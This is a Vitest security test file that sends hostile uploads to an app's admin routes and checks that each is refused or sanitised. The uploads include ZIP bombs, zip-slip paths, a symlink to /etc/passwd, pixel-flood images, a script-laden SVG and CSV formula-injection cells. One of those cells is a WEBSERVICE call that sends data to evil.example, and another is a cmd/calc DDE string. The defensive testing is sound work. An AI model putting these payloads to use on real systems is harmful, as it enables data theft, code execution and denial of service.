import fs from 'node:fs';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import { zipSync } from 'fflate';
import Papa from 'papaparse';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { brands } from '../db/schema';
import { type Actor, signInActors } from '../test/actors';
import { insertBrand } from '../test/brand-factory';
import { createTestApp, TEST_ORIGIN, type TestApp } from '../test/test-app';
import {
  buildZip,
  entry,
  pixelFloodPng,
  woff2,
  type ZipEntry,
  zeroBombEntry,
} from './fixtures/hostile-files';
import { measure, record } from './report/record';

/**
 * Hostile files through the real admin routes (font ZIPs, brand images and logos, CSV import):
 * each is refused or neutralised within 2 s with a clear message, memory grows by less than
 * 100 MB while it is handled, and nothing is ever written outside its bucket.
 */
const TIME_LIMIT_MS = 2_000;
const MEMORY_LIMIT_MB = 100;

let t: TestApp;
let as: Record<Actor, string>;
let brandId: string;
let familyCounter = 0;

beforeAll(async () => {
  t = await createTestApp();
  as = await signInActors(t);
  brandId = (await insertBrand(t.database.db, { name: 'Hostile Files', slug: 'hostile-files' })).id;
});
afterAll(async () => t.close());

interface Answer {
  status: number;
  detail: string;
  body: Record<string, unknown>;
}

async function answer(res: Response): Promise<Answer> {
  const body = (await res.json().catch(() => ({}))) as Record<string, unknown>;
  return { status: res.status, detail: String(body.detail ?? body.message ?? ''), body };
}

const admin = (path: string, init: RequestInit) =>
  t.app.request(path, { ...init, headers: { cookie: as.admin, origin: TEST_ORIGIN, ...init.headers } });

/** Uploads a ZIP under a family of its own, then extracts it; answers the extraction. */
async function installFonts(zip: Uint8Array, fileName = 'fonts.zip'): Promise<Answer> {
  const family = `Sodo Case${++familyCounter}`;
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(zip)]), fileName);
  form.append('family', family);
  const uploaded = await answer(await admin('/api/admin/fonts/upload', { method: 'POST', body: form }));
  if (uploaded.status !== 200) return uploaded;
  return answer(
    await admin('/api/admin/fonts/extract', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ family }),
    }),
  );
}

async function uploadImage(kind: 'logo' | 'image', bytes: Uint8Array, fileName: string, type: string) {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(bytes)], { type }), fileName);
  return answer(await admin(`/api/admin/brands/${brandId}/${kind}`, { method: 'POST', body: form }));
}

/** A body of `size` bytes made as it is read, so the test itself holds none of it. */
function generated(
  size: number,
  head = new Uint8Array(),
  tail = new Uint8Array(),
): ReadableStream<Uint8Array> {
  const chunk = new Uint8Array(64 * 1024).fill(0x41);
  let sent = 0;
  return new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent === 0 && head.length) controller.enqueue(head);
      if (sent >= size) {
        if (tail.length) controller.enqueue(tail);
        controller.close();
        return;
      }
      const piece = chunk.subarray(0, Math.min(chunk.length, size - sent));
      sent += piece.length;
      controller.enqueue(piece);
    },
  });
}

/** A multipart upload of one generated file, with or without a Content-Length header. */
async function uploadGenerated(kind: 'logo' | 'image', size: number, withLength: boolean) {
  const boundary = 'hardening-boundary';
  const head = new TextEncoder().encode(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="huge.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
  );
  const tail = new TextEncoder().encode(`\r\n--${boundary}--\r\n`);
  const headers: Record<string, string> = { 'content-type': `multipart/form-data; boundary=${boundary}` };
  if (withLength) headers['content-length'] = String(head.length + size + tail.length);
  return answer(
    await admin(`/api/admin/brands/${brandId}/${kind}`, {
      method: 'POST',
      headers,
      body: generated(size, head, tail),
      duplex: 'half',
    } as RequestInit),
  );
}

function importCsv(
  body: string | Uint8Array | ReadableStream<Uint8Array>,
  headers: Record<string, string> = {},
) {
  return admin('/api/admin/import/csv', {
    method: 'POST',
    headers: { 'content-type': 'text/csv', ...headers },
    body: typeof body === 'string' ? body : body instanceof Uint8Array ? new Uint8Array(body) : body,
    ...(body instanceof ReadableStream ? { duplex: 'half' } : {}),
  } as RequestInit);
}

/** Throws one case, measures it, records the row, and checks the time and memory limits. */
async function thrown(
  task: Parameters<typeof record>[0],
  label: string,
  expected: string,
  run: () => Promise<Answer>,
  check: (a: Answer) => void,
) {
  const result = await measure(run);
  if (result.error) throw result.error;
  const got = result.value as Answer;
  record(task, {
    thrown: label,
    expected,
    got: `${got.status} ${got.detail}`.trim(),
    ms: result.ms,
    memoryMb: result.memoryMb,
  });
  check(got);
  expect(result.ms, `${label}: time`).toBeLessThan(TIME_LIMIT_MS);
  expect(result.memoryMb, `${label}: memory`).toBeLessThan(MEMORY_LIMIT_MB);
}

const refused = (status: number, message: RegExp | string) => (a: Answer) => {
  expect(a.status).toBe(status);
  if (typeof message === 'string') expect(a.detail).toBe(message);
  else expect(a.detail).toMatch(message);
};

/** Every file under a folder, with whether it is a symbolic link. */
function tree(root: string): { file: string; link: boolean }[] {
  if (!fs.existsSync(root)) return [];
  return fs
    .readdirSync(root, { recursive: true, withFileTypes: true })
    .filter((e) => !e.isDirectory())
    .map((e) => ({
      file: path.relative(root, path.join(e.parentPath, e.name)),
      link: fs.lstatSync(path.join(e.parentPath, e.name)).isSymbolicLink(),
    }));
}

describe('4. Hostile files', () => {
  it('refuses or neutralises hostile ZIPs for the font installer', async ({ task }) => {
    const bomb = buildZip([await zeroBombEntry('SodoSans-Regular.woff2', 200 * 1024 * 1024)]);
    await thrown(
      task,
      `ZIP bomb: 200 MB of zeros in ${Math.round(bomb.length / 1024)} KB`,
      '422, nothing inflated',
      () => installFonts(bomb),
      refused(422, /^(Failed to extract fonts: )?.*too large/),
    );
    const dense = buildZip([await zeroBombEntry('SodoSans-Regular.woff2', 9 * 1024 * 1024)]);
    await thrown(
      task,
      `ZIP bomb: 9 MB of zeros in ${Math.round(dense.length / 1024)} KB (under the entry limit)`,
      '422 ZIP bomb',
      () => installFonts(dense),
      refused(422, /^(Failed to extract fonts: )?.*ZIP bomb/),
    );
    const nine = await zeroBombEntry('x', 9 * 1024 * 1024);
    const wide = buildZip(
      Array.from({ length: 300 }, (_, i) => ({ ...nine, name: `SodoSans-${i}-Regular.woff2` })),
    );
    await thrown(
      task,
      `ZIP bomb: 300 entries × 9 MB in ${Math.round(wide.length / 1024)} KB`,
      '422',
      () => installFonts(wide),
      refused(422, /^(Failed to extract fonts: )?.*(ZIP bomb|more than 50 MB)/),
    );

    const big = buildZip([{ ...entry('SodoSans-Regular.woff2', woff2(4096)), declaredSize: 1024 ** 3 }]);
    await thrown(
      task,
      'ZIP declaring 1 GB for a 4 KB entry',
      '422',
      () => installFonts(big),
      refused(422, /^(Failed to extract fonts: )?.*too large/),
    );

    const small = buildZip([{ ...entry('SodoSans-Regular.woff2', woff2(4096)), declaredSize: 16 }]);
    await thrown(
      task,
      'ZIP declaring 16 bytes for a 4 KB entry',
      '422, never inflated past 16 B',
      () => installFonts(small),
      refused(422, 'No font files found in ZIP'),
    );

    const truncated = buildZip([entry('SodoSans-Regular.woff2', woff2(4096))]).subarray(0, 200);
    await thrown(
      task,
      'ZIP cut short (central directory missing)',
      '422 or 400',
      () => installFonts(truncated),
      (a) => expect([400, 422]).toContain(a.status),
    );

    for (const name of [
      '../../evil.woff2',
      '/tmp/evil-absolute.woff2',
      'C:\\evil.woff2',
      'fonts\\..\\..\\evil.woff2',
      'ok/../../../evil.woff2',
      'SodoSans-Regular.woff2\u0000.txt',
    ]) {
      const zip = buildZip([entry('SodoSans-Bold.woff2', woff2()), entry(name, woff2())]);
      await thrown(
        task,
        `zip-slip entry ${JSON.stringify(name)}`,
        '422 unsafe path',
        () => installFonts(zip),
        refused(422, /unsafe path/),
      );
    }

    const link: ZipEntry = {
      ...entry('SodoSans-Regular.woff2', '/etc/passwd', { deflate: false }),
      unixMode: 0o120777,
    };
    await thrown(
      task,
      'symlink entry → /etc/passwd named like a font',
      '422, no link written',
      () => installFonts(buildZip([link])),
      refused(422, 'No font files found in ZIP'),
    );

    const many = zipSync(
      Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`f${i}.txt`, new Uint8Array([1])])),
    );
    await thrown(
      task,
      'ZIP of 10,000 entries',
      '422',
      () => installFonts(many),
      refused(422, /more than 500 entries/),
    );

    const inner = zipSync({ 'SodoSans-Regular.woff2': woff2() });
    const nested = zipSync({ 'SodoSans-Regular.zip': inner, 'SodoSans-Bold.woff2': inner });
    await thrown(
      task,
      'nested ZIP (and a ZIP renamed .woff2)',
      '422, inner ZIP not opened',
      () => installFonts(nested),
      refused(422, 'No font files found in ZIP'),
    );

    const renamed = zipSync({
      'SodoSans-Regular.woff2': new TextEncoder().encode('<script>not a font</script>'),
    });
    await thrown(
      task,
      'text renamed SodoSans-Regular.woff2',
      '422',
      () => installFonts(renamed),
      refused(422, 'No font files found in ZIP'),
    );

    await thrown(
      task,
      'a PNG uploaded as fonts.zip',
      '400',
      async () =>
        installFonts(
          await sharp({ create: { width: 2, height: 2, channels: 3, background: '#000' } })
            .png()
            .toBuffer(),
        ),
      refused(400, /^Please upload a ZIP file containing the Sodo Case\d+ fonts$/),
    );

    const mixed = zipSync({
      'SodoSans-Medium.woff2': woff2(),
      'SodoSans-Bold.woff2': new TextEncoder().encode('fake'),
    });
    await thrown(
      task,
      'one real font beside a fake one',
      '200, 1 installed',
      () => installFonts(mixed),
      (a) => {
        expect(a.status).toBe(200);
        expect(a.body.count).toBe(1);
      },
    );
  });

  it('refuses or neutralises hostile images', async ({ task }) => {
    const html = new TextEncoder().encode('<html><script>alert(1)</script></html>');
    await thrown(
      task,
      'HTML named logo.png, sent as image/png',
      '422 not an image',
      () => uploadImage('logo', html, 'logo.png', 'image/png'),
      refused(422, 'The file is not an image'),
    );
    await thrown(
      task,
      'PDF named photo.jpg',
      '422',
      () =>
        uploadImage('image', new TextEncoder().encode('%PDF-1.7\n%âãÏÓ\n1 0 obj'), 'photo.jpg', 'image/jpeg'),
      refused(422, 'The file is not an image'),
    );
    await thrown(
      task,
      'GIF/JavaScript polyglot',
      '422',
      () =>
        uploadImage('logo', new TextEncoder().encode('GIF89a/*\x00\x00*/=alert(1);'), 'x.gif', 'image/gif'),
      refused(422, /not an image|could not be decoded/),
    );

    const jpeg = await sharp({ create: { width: 64, height: 32, channels: 3, background: '#00704A' } })
      .jpeg()
      .toBuffer();
    await thrown(
      task,
      'a JPEG named logo.png',
      '200, stored as a re-encoded PNG',
      () => uploadImage('logo', jpeg, 'logo.png', 'image/png'),
      async (a) => {
        expect(a.status).toBe(200);
      },
    );
    const [row] = await t.database.db.select().from(brands).where(eq(brands.id, brandId));
    const stored = await t.app.request(row?.logoUrl ?? '');
    const bytes = Buffer.from(await stored.arrayBuffer());
    expect(stored.headers.get('content-type')).toBe('image/png');
    expect(bytes.subarray(1, 4).toString()).toBe('PNG');

    await thrown(
      task,
      '50,000 × 50,000 pixel-flood PNG (valid CRCs)',
      '422, not decoded',
      () => uploadImage('image', pixelFloodPng(50_000, 50_000), 'flood.png', 'image/png'),
      refused(422, 'The image has too many pixels'),
    );
    await thrown(
      task,
      '10,000 × 10,000 PNG header',
      '422',
      () => uploadImage('logo', pixelFloodPng(10_000, 10_000), 'big.png', 'image/png'),
      refused(422, 'The image has too many pixels'),
    );
    const sixMegabytes = Buffer.concat([jpeg, Buffer.alloc(6 * 1024 * 1024)]);
    await thrown(
      task,
      'a 6 MB image',
      '422 larger than 5 MB',
      () => uploadImage('image', sixMegabytes, 'big.jpg', 'image/jpeg'),
      refused(422, 'The image is larger than 5 MB'),
    );
    await thrown(
      task,
      'a 31 MB upload',
      '413',
      () => uploadGenerated('image', 31 * 1024 * 1024, true),
      refused(413, 'The upload is larger than 30 MB'),
    );
    await thrown(
      task,
      'a 31 MB upload streamed without Content-Length',
      '413 once 30 MB are read',
      () => uploadGenerated('image', 31 * 1024 * 1024, false),
      refused(413, 'The upload is larger than 30 MB'),
    );
  });

  it('sanitises an SVG carrying script, event handlers and external references', async ({ task }) => {
    const svg = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)" width="10" height="10">
  <script>alert(document.cookie)</script>
  <script xlink:href="https://evil.example/x.js"/>
  <a xlink:href="javascript:alert(2)"><rect width="10" height="10" onclick="alert(3)" onmouseover="alert(4)"/></a>
  <foreignObject><iframe src="https://evil.example"/></foreignObject>
  <image href="https://evil.example/track.png"/>
  <use href="https://evil.example/sprite.svg#a"/>
  <style>@import url(https://evil.example/x.css); rect { fill: url(https://evil.example/p) }</style>
  <rect style="fill:url(javascript:alert(5))" width="1" height="1"/>
  <set attributeName="onload" to="alert(6)"/>
  <animate attributeName="href" values="javascript:alert(7)"/>
  <text>&c;</text>
</svg>`;
    await thrown(
      task,
      'SVG logo with script, on* handlers, javascript: links, foreignObject, entities',
      '200, sanitised',
      () => uploadImage('logo', new TextEncoder().encode(svg), 'logo.svg', 'image/svg+xml'),
      (a) => expect(a.status).toBe(200),
    );
    const [row] = await t.database.db.select().from(brands).where(eq(brands.id, brandId));
    const served = await t.app.request(row?.logoUrl ?? '');
    const text = await served.text();
    const left = [
      '<script',
      'onload',
      'onclick',
      'onmouseover',
      'javascript:',
      'foreignObject',
      'iframe',
      'evil.example',
      '<set',
      '<animate',
      '<!ENTITY',
    ].filter((s) => text.toLowerCase().includes(s.toLowerCase()));
    record(task, {
      thrown: 'the stored SVG, served',
      expected: 'no script/handlers/links; CSP sandbox',
      got: `${left.length ? `LEFT: ${left.join(' ')}` : 'none left'}; ${served.headers.get('content-security-policy')}`,
    });
    expect(left).toEqual([]);
    expect(text).toContain('<rect');
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('refuses oversized and hostile CSV files, and neutralises formula cells', async ({ task }) => {
    const brandsBefore = (await t.database.db.select({ id: brands.id }).from(brands)).length;
    await thrown(
      task,
      '50 MB CSV with Content-Length',
      '413 before reading',
      async () =>
        answer(await importCsv(generated(50 * 1024 * 1024), { 'content-length': String(50 * 1024 * 1024) })),
      refused(413, 'The CSV is larger than 5 MB'),
    );

    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= 50 * 1024 * 1024) return controller.close();
        const chunk = new TextEncoder().encode('Brand,brand.example\n'.repeat(3_277));
        sent += chunk.length;
        controller.enqueue(chunk);
      },
    });
    await thrown(
      task,
      '50 MB CSV streamed without Content-Length',
      '413, reading stops at 5 MB',
      async () => answer(await importCsv(stream)),
      refused(413, 'The CSV is larger than 5 MB'),
    );
    record(task, {
      thrown: 'bytes pulled from that stream',
      expected: '≈ 5 MB, not 50 MB',
      got: `${(sent / 2 ** 20).toFixed(1)} MB`,
    });
    expect(sent).toBeLessThan(8 * 1024 * 1024);

    const rows = Array.from({ length: 100_000 }, (_, i) => `Brand ${i},brand${i}.example`).join('\n');
    await thrown(
      task,
      `100,000-row CSV (${(rows.length / 2 ** 20).toFixed(1)} MB)`,
      '400 too many rows',
      async () => answer(await importCsv(`name,url\n${rows}`)),
      refused(400, /more than 5,000 rows/),
    );

    await thrown(
      task,
      'CSV with NUL bytes',
      '400',
      async () => answer(await importCsv(new Uint8Array([0x6e, 0x61, 0x00, 0x0a, 0x41]))),
      refused(400, /Invalid file type/),
    );
    await thrown(
      task,
      'CSV in UTF-16',
      '400',
      async () => answer(await importCsv(Buffer.from('\ufeffname,url\nA,a.example', 'utf16le'))),
      refused(400, /Invalid file type/),
    );
    await thrown(
      task,
      'a 100 KB brand name',
      '400 no valid rows (row dropped)',
      async () => answer(await importCsv(`name,url\n${'N'.repeat(100_000)},long.example`)),
      refused(400, /No valid brands found in CSV/),
    );
    await thrown(
      task,
      'a 10,000-character URL',
      '400 no valid rows (row dropped)',
      async () => answer(await importCsv(`name,url\nLong Url,${'u'.repeat(10_000)}.example`)),
      refused(400, /No valid brands found in CSV/),
    );
    expect((await t.database.db.select({ id: brands.id }).from(brands)).length).toBe(brandsBefore);

    const formulas = [
      'name,url,tagline,description,industry,keywords',
      '"=HYPERLINK(""http://evil.example"",""x"")",evil.example,a,b,c,d',
      'Formula Co,formula.example,=1+2,+SUM(A1:A9),-2+3,"@cmd,=x,safe"',
      `Tab Co,tab.example,"\tTAB",\r,x,y`,
    ].join('\n');
    await thrown(
      task,
      'CSV of formula cells',
      "200: formula names dropped, other cells prefixed with '",
      async () => answer(await importCsv(formulas)),
      (a) => {
        expect(a.status).toBe(200);
        expect(a.body.inserted).toBe(2);
      },
    );
    const [formula] = await t.database.db.select().from(brands).where(eq(brands.slug, 'formula-co'));
    record(task, {
      thrown: 'cells stored from that CSV',
      expected: "each formula prefixed with '",
      got: JSON.stringify([formula?.tagline, formula?.description, formula?.industry, formula?.keywords]),
    });
    expect(formula).toMatchObject({
      tagline: "'=1+2",
      description: "'+SUM(A1:A9)",
      industry: "'-2+3",
      keywords: ["'@cmd", "'=x", 'safe'],
    });
  });

  it('prefixes formula cells in the CSV export, whoever stored them', async ({ task }) => {
    await insertBrand(t.database.db, {
      name: 'Stored Formula',
      slug: 'stored-formula',
      tagline: '=WEBSERVICE("http://evil.example/?"&A1)',
      description: "@SUM(1+1)*cmd|' /C calc'!A0",
      keywords: ['+x', 'plain'],
    });
    const result = await measure(async () => {
      const res = await admin('/api/admin/export/brands.csv', { method: 'GET' });
      return { res, text: await res.text() };
    });
    const { res, text } = result.value as { res: Response; text: string };
    const rows = Papa.parse<Record<string, string>>(text, { header: true, delimiter: ',' }).data;
    const row = rows.find((r) => r.slug === 'stored-formula');
    record(task, {
      thrown: 'GET /api/admin/export/brands.csv with formula cells stored',
      expected: "200 text/csv, each formula cell prefixed with '",
      got: `${res.status} ${res.headers.get('content-type')}; ${JSON.stringify([row?.tagline, row?.description, row?.keywords])}`,
      ms: result.ms,
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain('brands.csv');
    expect(row?.tagline).toBe(`'=WEBSERVICE("http://evil.example/?"&A1)`);
    expect(row?.description?.startsWith("'@SUM")).toBe(true);
    expect(row?.keywords).toBe("'+x, plain");
    // Every cell of every row: nothing a spreadsheet would run.
    const risky = rows.flatMap((r) => Object.values(r)).filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(risky).toEqual([]);
    // And the export can be imported again: the import reads its columns.
    expect(Object.keys(rows[0] ?? {})).toEqual(
      expect.arrayContaining(['name', 'url', 'tagline', 'keywords']),
    );
  });

  it('wrote nothing outside its bucket, and no link at all', ({ task }) => {
    const root = path.dirname(t.filesDir);
    const files = tree(root);
    const outside = files.filter(
      ({ file }) =>
        !/^files\/(\.meta\/)?(brand-logos|brand-images|fonts)\//.test(file) && !file.startsWith('web/'),
    );
    const links = files.filter((f) => f.link);
    const evil = [
      '/tmp/evil-absolute.woff2',
      '/tmp/evil.woff2',
      path.join(root, 'evil.woff2'),
      path.join(path.dirname(root), 'evil.woff2'),
    ].filter((f) => fs.existsSync(f));
    const temporary = files.filter(({ file }) => path.basename(file).startsWith('.tmp-'));
    record(task, {
      thrown: `${files.length} files under the app's folder after every case`,
      expected: 'all inside a bucket; no links, no temp files',
      got: `${outside.length} outside, ${links.length} links, ${temporary.length} temp, ${evil.length} escaped`,
    });
    expect(outside).toEqual([]);
    expect(links).toEqual([]);
    expect(temporary).toEqual([]);
    expect(evil).toEqual([]);
    // Only what the cases installed is there: the ZIPs as uploaded and fonts renamed by weight.
    const fontFiles = files
      .filter(({ file }) => /^files\/fonts\/[^/]+\/[^/]+$/.test(file))
      .map(({ file }) => path.basename(file));
    expect(
      fontFiles.every(
        (f) =>
          /^\d+-[\w.-]+\.zip$/i.test(f) ||
          /^SodoCase\d+-(Regular|Medium|SemiBold|Bold)\.(woff2|woff|ttf)$/.test(f),
      ),
    ).toBe(true);
  });
});
